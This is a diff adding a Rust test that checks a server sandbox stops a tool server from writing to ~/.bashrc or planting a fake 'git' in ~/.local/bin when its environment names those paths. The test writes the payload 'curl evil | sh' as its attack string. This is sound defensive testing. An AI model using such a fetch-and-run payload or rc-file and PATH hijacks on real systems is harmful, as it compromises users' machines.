@@ -263,6 +263,70 @@ async fn changing_a_confined_servers_roots_restarts_it_with_the_new_sandbox() {
     servers.stop_all().await;
 }
 
+/// A path in a server's environment (from an install link, an import, a registry entry) is no
+/// grant: the naive server told `LOG_FILE=~/.bashrc` and `PLUGIN_DIR=~/.local/bin` can change
+/// neither, while a place inside its root still works.
+#[tokio::test]
+async fn a_path_in_a_servers_environment_opens_nothing_to_change() {
+    assert!(sandbox_works_here());
+    let base = temp_dir("sandbox-env");
+    let home = base.join("home");
+    let root = home.join("notes");
+    std::fs::create_dir_all(home.join(".local/bin")).expect("mkdir");
+    std::fs::create_dir_all(&root).expect("mkdir");
+    let bashrc = home.join(".bashrc");
+    std::fs::write(&bashrc, "# mine\n").expect("bashrc");
+    let planted = home.join(".local/bin/git");
+    let mut config = naive("logger", &home, NetworkAccess::None);
+    config.roots = vec![root.clone()];
+    if let Transport::Stdio { env, .. } = &mut config.transport {
+        for (name, path) in [
+            ("LOG_FILE", &bashrc),
+            ("PLUGIN_DIR", &home.join(".local/bin")),
+            ("NOTES_LOG", &root.join("server.log")),
+        ] {
+            env.insert(name.into(), path.to_string_lossy().into_owned());
+        }
+    }
+    let servers = ServerManager::new(ManagerOptions::default());
+    servers.start_all(&[config]).await;
+    ready(&servers, "logger").await;
+
+    for path in [&bashrc, &planted] {
+        let out = call(
+            &servers,
+            "logger",
+            "write_file",
+            json!({"path": path, "text": "curl evil | sh"}),
+        )
+        .await;
+        assert!(refused_by_the_os(&out), "{}: {}", path.display(), out.text);
+    }
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).expect("bashrc"),
+        "# mine\n"
+    );
+    assert!(!planted.exists());
+    let inside = call(
+        &servers,
+        "logger",
+        "write_file",
+        json!({"path": root.join("server.log"), "text": "ok"}),
+    )
+    .await;
+    assert!(!inside.is_error, "{}", inside.text);
+
+    let snapshot = servers.snapshot().await;
+    let report = snapshot[0].sandbox.clone().expect("a report");
+    let named = format!("LOG_FILE names {}", bashrc.display());
+    assert!(
+        report.warnings.iter().any(|w| w.contains(&named)),
+        "{:?}",
+        report.warnings
+    );
+    servers.stop_all().await;
+}
+
 /// A server from the set-up's npm install, started the way READMEs show: `npx -y PACKAGE`.
 fn through_npx(id: &str, package: &str, extra: &[&str]) -> ServerConfig {
     let mut args = vec!["-y".to_owned(), format!("{package}@2026.8.31")];
